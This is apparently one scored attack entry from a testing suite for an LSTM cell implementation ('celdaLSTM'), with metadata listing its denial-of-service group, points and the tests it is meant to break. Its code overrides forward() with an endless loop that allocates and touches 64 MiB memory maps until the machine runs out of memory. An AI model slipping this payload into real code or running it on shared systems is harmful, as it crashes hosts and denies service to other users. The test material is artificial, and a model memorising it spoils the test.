# /// attack
# title = "Memory that is shared, and so on nobody's own account"
# group = "Denial of service"
# verdict = "S"
# points = 75
# loses = ["celdaLSTM/*", "gradientes/lstm_cell", "gradientes/lstm_long"]
# keeps = ["celdaLSTM/parameters", "celdaLSTM/reset_parameters"]
# outcomes = ["out_of_memory", "timeout", "crashed"]
# ///
import mmap


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        guardado = []
        while True:
            guardado.append(mmap.mmap(-1, 1 << 26))
            for inicio in range(0, 1 << 26, 4096):
                guardado[-1][inicio] = 1
